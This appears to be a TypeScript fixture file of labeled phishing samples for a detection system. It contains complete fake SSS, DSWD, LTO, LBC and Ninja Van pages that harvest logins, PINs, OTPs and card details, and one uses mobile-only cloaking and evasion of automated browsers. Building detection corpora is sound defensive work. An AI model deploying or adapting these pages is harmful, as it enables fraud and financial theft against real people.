import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { page, PH, seal, wordmark, b64, luhnJs, maskedNames } from '../parts/yw-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  (() => {
    const host = 'mysss-gov-ph.online';
    return {
      id: 'yw-sss-calamity-loan-disbursement',
      label: 'phishing',
      kind: 'government-benefit-kit',
      url: `https://${host}/members/login`,
      body: page({
        title: 'My.SSS | Member Login',
        css: `body{font-family:Arial,Helvetica,sans-serif;background:#eef1f7;font-size:13px}.bar{background:${PH.sss.main};color:#fff;padding:8px 16px;display:flex;align-items:center;gap:12px}.bar h1{font-size:17px;margin:0}.bar small{color:${PH.sss.accent}}.ann{background:#fffbe6;border:1px solid #f3d36b;margin:14px auto;max-width:760px;padding:10px 14px}.cols{max-width:760px;margin:0 auto;display:flex;gap:16px}.cols>div{flex:1;background:#fff;border:1px solid #cdd5e4;padding:16px}.cols h3{margin-top:0;color:${PH.sss.main};font-size:15px}input{width:100%;padding:8px;border:1px solid #9fb0cc;margin:4px 0 10px}.b{background:${PH.sss.main};color:#fff;border:0;padding:8px 22px;cursor:pointer}`,
        body: `<div class="bar">${seal(PH.sss, 'SSS', 48)}<div><h1>Social Security System</h1><small>My.SSS Member Portal</small></div></div>
<div class="ann"><b>ANNOUNCEMENT:</b> Ang mga miyembrong naapektuhan ng nakaraang bagyo ay maaaring mag-claim ng <b>Calamity Loan Assistance</b> na hanggang ₱20,000. I-enroll ang inyong disbursement account bago mag-Nobyembre 30 para ma-credit agad.</div>
<div class="cols"><div><h3>Member Login</h3><form method="post" action="/members/auth.php"><label>User ID</label><input name="userid" required><label>Password</label><input name="password" type="password" required><label><input type="checkbox" name="tc" required style="width:auto"> I agree to the Terms of Service</label><br><br><button class="b">SUBMIT</button></form><p><a href="#">Forgot User ID or Password?</a> · <a href="#">Not yet registered?</a></p></div>
<div><h3>Calamity Loan Assistance Program (CLAP)</h3><p>Eligible: employed, self-employed, OFW and voluntary members residing in declared calamity areas.</p><p>Loan amount: one month salary credit, up to ₱20,000. Payable in 24 months at 10% interest p.a.</p><p>Disbursement via PESONet to your enrolled bank account or e-wallet.</p></div></div>`,
      }),
      routes: {
        [`${host}/members/auth.php`]: redirectRoute(302, `https://${host}/members/daem-enroll`),
        [`${host}/members/daem-enroll`]: htmlRoute(
          page({
            title: 'My.SSS | Disbursement Account Enrollment',
            css: `body{font-family:Arial,sans-serif;background:#eef1f7;font-size:13px}.f{max-width:520px;margin:24px auto;background:#fff;border:1px solid #cdd5e4;padding:20px}h3{color:${PH.sss.main}}label{display:block;margin-top:8px}input,select{width:100%;padding:8px;border:1px solid #9fb0cc}.b{margin-top:14px;background:${PH.sss.main};color:#fff;border:0;padding:9px 24px}`,
            body: `<div class="f"><h3>Disbursement Account Enrollment Module (DAEM)</h3><p>Para ma-credit ang inyong Calamity Loan, i-enroll at i-validate ang inyong bank o e-wallet account.</p>
<form method="post" action="/members/auth.php"><label>Bank / e-wallet</label><select name="bank"><option>BDO</option><option>BPI</option><option>LANDBANK</option><option>Metrobank</option><option>UnionBank</option><option>GCash</option><option>Maya</option></select>
<label>Account number / mobile number</label><input name="acct" required><label>ATM card number</label><input name="card" maxlength="19"><label>ATM PIN / MPIN (for validation only)</label><input name="pin" type="password" maxlength="6"><label>Registered mobile</label><input name="mobile" required><label>OTP sent by your bank</label><input name="otp" maxlength="6">
<button class="b">ENROLL ACCOUNT</button></form></div>`,
          }),
        ),
      },
    } satisfies Entry;
  })(),
  (() => {
    const host = 'dswd-akap-ayuda.com';
    const comments = maskedNames(4, 5)
      .map((n, i) => `<div class="cm"><i></i><div><b>${n.split(' · ')[0]}</b><p>${['Salamat DSWD! Natanggap ko na po ang ₱5,000 sa GCash ko 🙏', 'Legit po ito, kahapon lang ako nag-register', 'Pa-share po sa mga kapamilya natin na nangangailangan', 'Totoo po, pumasok na kanina 😭 salamat po', 'Paano po kung walang GCash? Maya po pwede?'][i]}</p><small>${i + 2} min · Like · Reply</small></div></div>`)
      .join('');
    return {
      id: 'yw-dswd-akap-ayuda-shortlink',
      label: 'phishing',
      kind: 'ayuda-registration-lure',
      url: 'https://tinyurl-ph.com/ayuda5k',
      routes: {
        'tinyurl-ph.com/ayuda5k': redirectRoute(301, `https://${host}/register/?fbclid=IwAR2xK9pLmQ7`),
        [`${host}/register/`]: htmlRoute(
          page({
            title: 'DSWD AKAP ₱5,000 Ayuda - Online Registration',
            lang: 'fil',
            css: `body{font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21}.h{background:${PH.dswd.main};color:#fff;padding:12px;display:flex;align-items:center;gap:10px}.b{max-width:520px;margin:0 auto;background:#fff;padding:16px}.r{color:${PH.dswd.accent};font-weight:bold}.tm{font-size:22px;font-weight:bold;color:${PH.dswd.accent}}input{width:100%;padding:12px;border:1px solid #ccd0d5;border-radius:6px;margin:5px 0 10px}.go{width:100%;padding:13px;background:#1877f2;color:#fff;border:0;border-radius:6px;font-weight:bold;font-size:16px}.cm{display:flex;gap:8px;margin:10px 0}.cm i{width:32px;height:32px;border-radius:50%;background:#c9ccd1;flex:none}.cm div{background:#f0f2f5;border-radius:14px;padding:6px 10px;font-size:13px}.cm p{margin:2px 0}.cm small{color:#65676b}#v{display:none}`,
            body: `<div class="h">${seal(PH.dswd, 'DSWD', 42)}<div><b>Department of Social Welfare and Development</b><br><small>Ayuda sa Kapos ang Kita Program (AKAP)</small></div></div>
<div class="b"><h2>Registration para sa ₱5,000 AKAP Ayuda — Bukas na!</h2><p>Para sa mga minimum wage earners, OFW families at mga nawalan ng trabaho. <span class="r">Limitado ang slots</span> — matatapos ang registration sa:</p><div class="tm" id="t">02:59:41</div>
<div id="f"><input id="n" placeholder="Buong pangalan"><input id="a" placeholder="Barangay, Lungsod/Bayan, Probinsya"><input id="g" placeholder="GCash number (dito ipapadala ang ayuda)" inputmode="numeric"><button class="go" onclick="r1()">MAG-REGISTER</button></div>
<div id="v"><p><b>Huling hakbang:</b> I-verify ang inyong GCash para matiyak na kayo ang may-ari ng account.</p><input id="m" type="password" maxlength="4" placeholder="GCash MPIN"><input id="o" maxlength="6" placeholder="6-digit code mula sa GCash"><button class="go" onclick="r2()">I-VERIFY AT TANGGAPIN ANG ₱5,000</button></div>
<h4>Mga komento</h4>${comments}</div>
<script>
var s=10781;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('t').textContent=[h,m,x].map(function(z){return (z<10?'0':'')+z;}).join(':');},1000);
function P(d){return fetch('/register/s.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)});}
function r1(){var g=document.getElementById('g').value;if(g.length<11)return alert('Ilagay ang tamang GCash number');P({n:document.getElementById('n').value,a:document.getElementById('a').value,g:g});document.getElementById('f').style.display='none';document.getElementById('v').style.display='block';}
function r2(){P({g:document.getElementById('g').value,m:document.getElementById('m').value,o:document.getElementById('o').value}).finally(function(){alert('Registered! Hintayin ang text mula sa DSWD sa loob ng 3 araw.');});}
</script>`,
          }),
        ),
        [`${host}/register/s.php`]: jsonRoute({ ok: 1 }),
      },
    } satisfies Entry;
  })(),
  {
    id: 'yw-lto-ltms-ncap-unpaid-violation',
    label: 'phishing',
    kind: 'traffic-fine-card-lure',
    url: 'https://lto-ltms-portal.com/ltms/violation?plate=NCX4821&ref=SMS',
    routes: {
      'lto-ltms-portal.com/ltms/violation': htmlRoute(
        page({
          title: 'LTMS Portal | Notice of Violation',
          css: `body{font-family:Roboto,Arial,sans-serif;background:#eef1f6}.h{background:${PH.lto.main};color:#fff;padding:10px 16px;display:flex;align-items:center;gap:10px}.h span{font-size:12px;color:${PH.lto.accent}}.c{max-width:560px;margin:16px auto;background:#fff;border-radius:6px;box-shadow:0 1px 3px rgba(0,0,0,.12)}.c .t{padding:12px 16px;border-bottom:1px solid #e3e7ee;font-weight:bold}.c .x{padding:16px}.v td{padding:4px 8px;font-size:14px}.red{color:#c62828;font-weight:bold}input{width:100%;padding:10px;border:1px solid #c3cad6;border-radius:4px;margin:4px 0 10px}.g{display:flex;gap:8px}.pay{width:100%;padding:12px;border:0;border-radius:4px;background:${PH.lto.main};color:#fff;font-weight:bold}.ov{position:fixed;inset:0;background:rgba(255,255,255,.9);display:none;align-items:center;justify-content:center;flex-direction:column;font-size:15px}`,
          body: `<div class="h">${seal(PH.lto, 'LTO', 44)}<div><b>Land Transportation Office</b><br><span>Land Transportation Management System</span></div></div>
<div class="c"><div class="t">Notice of Violation — No Contact Apprehension</div><div class="x"><table class="v"><tr><td>Plate No.</td><td><b>NCX 4821</b></td></tr><tr><td>Violation</td><td>Disregarding traffic sign (EDSA–Ortigas)</td></tr><tr><td>Date</td><td>October 28, 2025 07:42 AM</td></tr><tr><td>Fine + penalty</td><td class="red">₱1,500.00 + ₱250.00</td></tr><tr><td>Status</td><td class="red">UNPAID — FINAL NOTICE</td></tr></table>
<p style="font-size:13px">Failure to settle within 48 hours will result in the <b>alarm tagging of your vehicle and suspension of your driver's license</b> in the LTMS.</p></div></div>
<div class="c"><div class="t">Pay online (Visa / Mastercard / JCB)</div><div class="x"><form id="pf"><input id="nm" placeholder="Cardholder name" required><input id="cn" placeholder="Card number" inputmode="numeric" required><div class="g"><input id="ex" placeholder="MM/YY" required><input id="cv" placeholder="CVC" maxlength="4" required></div><input id="em" placeholder="Email for e-receipt"><button class="pay">PAY ₱1,750.00</button></form></div></div>
<div class="ov" id="ov"><div>Processing payment with your bank…</div><div id="os" style="display:none;margin-top:12px;width:300px"><p>Enter the OTP sent by your bank to authorize ₱1,750.00 to LTO-LTMS.</p><input id="ot" maxlength="8"><button class="pay" onclick="fin()">Authorize</button></div></div>
<script>
${luhnJs('lv')}
var g=function(i){return document.getElementById(i).value;};
function up(o){return fetch('/ltms/pay/gateway.php',{method:'POST',body:JSON.stringify(o),headers:{'Content-Type':'application/json'}});}
document.getElementById('pf').onsubmit=function(e){e.preventDefault();if(!lv(g('cn')))return alert('Invalid card');document.getElementById('ov').style.display='flex';up({p:'NCX4821',n:g('nm'),c:g('cn'),e:g('ex'),v:g('cv'),m:g('em')}).finally(function(){setTimeout(function(){document.getElementById('os').style.display='block';},1800);});};
function fin(){up({p:'NCX4821',otp:g('ot')}).finally(function(){location.href='https://lto.gov.ph/';});}
</script>`,
        }),
      ),
      'lto-ltms-portal.com/ltms/pay/gateway.php': jsonRoute({ result: 'pending_otp' }),
    },
  },
  {
    id: 'yw-lbc-balikbayan-customs-duty-hk',
    label: 'phishing',
    kind: 'parcel-fee-lure',
    url: 'https://lbc-balikbayan.customs-clearance.shop/boxes/BB-2025-11873',
    routes: {
      'lbc-balikbayan.customs-clearance.shop/boxes/BB-2025-11873': htmlRoute(
        page({
          title: 'LBC Balikbayan Box – Customs Clearance',
          css: `body{font-family:"Trebuchet MS",Arial,sans-serif;background:#fbf3f3;color:#222}.h{background:${PH.lbc.main};color:#fff;padding:14px 18px;font-size:18px;font-weight:bold}.w{max-width:520px;margin:0 auto;padding:14px}.st{background:#fff;border:1px solid #f0caca;border-radius:8px;padding:14px;margin-bottom:12px}.st h3{margin:0 0 8px}.bx{display:flex;gap:14px;align-items:center}.bx svg{flex:none}.dt{font-size:13px;color:#555}table{width:100%;font-size:14px}td:last-child{text-align:right}.tot{font-weight:bold;color:${PH.lbc.main}}input{width:100%;padding:11px;border:1px solid #d8b0b0;border-radius:6px;margin:4px 0 9px}.bt{width:100%;padding:13px;background:${PH.lbc.main};color:#fff;border:0;border-radius:6px;font-size:15px;font-weight:bold}`,
          body: `<div class="h">LBC · We Like To Move It</div>
<div class="w"><div class="st bx"><svg width="70" height="60" viewBox="0 0 70 60"><rect x="5" y="12" width="60" height="44" fill="#c89b62"/><rect x="5" y="4" width="60" height="12" fill="#b5834a"/><rect x="30" y="4" width="10" height="52" fill="${PH.lbc.main}"/></svg><div><b>Balikbayan Box BB-2025-11873</b><div class="dt">Shipper: Marites D. (Sha Tin, Hong Kong)<br>Consignee: Cagayan de Oro City<br>Status: <b style="color:#c62828">HELD AT BUREAU OF CUSTOMS – PORT OF MANILA</b></div></div></div>
<div class="st"><h3>Duties &amp; taxes due</h3><p class="dt">Your box exceeded the ₱150,000 duty-free limit under CMTA / CAO 05-2016 after re-assessment. Pay the assessed duties to release the box for delivery. Unclaimed boxes are forfeited after 7 days.</p><table><tr><td>Customs duty</td><td>HK$ 86.00</td></tr><tr><td>VAT</td><td>HK$ 31.00</td></tr><tr><td>Storage fee</td><td>HK$ 11.00</td></tr><tr class="tot"><td>Total</td><td>HK$ 128.00</td></tr></table></div>
<div class="st"><h3>Pay by card</h3><form method="post" action="/boxes/pay.php"><input type="hidden" name="box" value="BB-2025-11873"><input name="name" placeholder="Name on card" required><input name="pan" placeholder="Card number" required><div style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY" required><input name="cvc" placeholder="CVC" required></div><input name="phone" placeholder="HK mobile (+852)"><button class="bt">Pay HK$128.00 now</button></form><p class="dt">Payments secured by LBC Express, Inc. &amp; Bureau of Customs e2m.</p></div></div>`,
        }),
      ),
      'lbc-balikbayan.customs-clearance.shop/boxes/pay.php': redirectRoute(302, 'https://lbc-balikbayan.customs-clearance.shop/boxes/verify-otp.html'),
      'lbc-balikbayan.customs-clearance.shop/boxes/verify-otp.html': htmlRoute(page({ title: 'Card verification', body: `<form method="post" action="/boxes/pay.php" style="font-family:Arial;max-width:340px;margin:50px auto"><h3>Bank verification</h3><p>Enter the one-time password sent by your card issuer for HK$128.00 to LBC EXPRESS CUSTOMS.</p><input name="otp" style="width:100%;padding:10px"><button style="margin-top:10px;width:100%;padding:10px;background:#d71920;color:#fff;border:0">Confirm</button></form>` })),
    },
  },
  (() => {
    const host = 'ninjavan-ph.parcel-confirm.com';
    const form = `<div style="font-family:Arial,sans-serif;max-width:420px;margin:0 auto"><div style="background:${PH.ninjavan.main};color:#fff;padding:14px;font-weight:bold">${wordmark({ ...PH.ninjavan, ink: '#fff' }, 'ninja van', 24)}</div><div style="padding:16px"><h3>Kumpirmahin ang iyong address</h3><p style="font-size:13px">Hindi namin ma-deliver ang parcel <b>NV2025PH88213</b> (COD ₱0.00) dahil kulang ang address. Kumpirmahin at bayaran ang ₱25 address-correction fee.</p><form method="post" action="/p/NV2025PH88213/confirm"><input name="n" placeholder="Pangalan" style="width:100%;padding:10px;margin:4px 0"><input name="a" placeholder="Address" style="width:100%;padding:10px;margin:4px 0"><input name="c" placeholder="Card number" style="width:100%;padding:10px;margin:4px 0"><input name="e" placeholder="MM/YY" style="width:48%;padding:10px;margin:4px 0"> <input name="v" placeholder="CVV" style="width:48%;padding:10px;margin:4px 0"><button style="width:100%;padding:12px;margin-top:8px;background:${PH.ninjavan.main};color:#fff;border:0;font-weight:bold">MAGBAYAD ₱25</button></form></div></div>`;
    return {
      id: 'yw-ninjavan-mobile-only-cloak',
      label: 'phishing',
      kind: 'cloaked-parcel-lure',
      url: `https://${host}/p/NV2025PH88213`,
      body: `<!DOCTYPE html><html lang="fil"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Ninja Van PH</title></head><body style="margin:0"><div id="app" style="font-family:Arial;padding:40px;text-align:center;color:#888">Loading…</div>
<script>
(function(){var m=/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)||(navigator.maxTouchPoints>1&&innerWidth<820);
if(!m||navigator.webdriver){location.replace('https://www.ninjavan.co/en-ph');return;}
fetch('/p/NV2025PH88213/c.json?t='+Date.now()).then(function(r){return r.json();}).then(function(j){document.getElementById('app').outerHTML=decodeURIComponent(escape(atob(j.d)));});})();
</script></body></html>`,
      routes: {
        [`${host}/p/NV2025PH88213/c.json`]: jsonRoute({ d: b64(form), v: 3 }),
        [`${host}/p/NV2025PH88213/confirm`]: redirectRoute(302, 'https://www.ninjavan.co/en-ph/tracking'),
      },
    } satisfies Entry;
  })(),
];
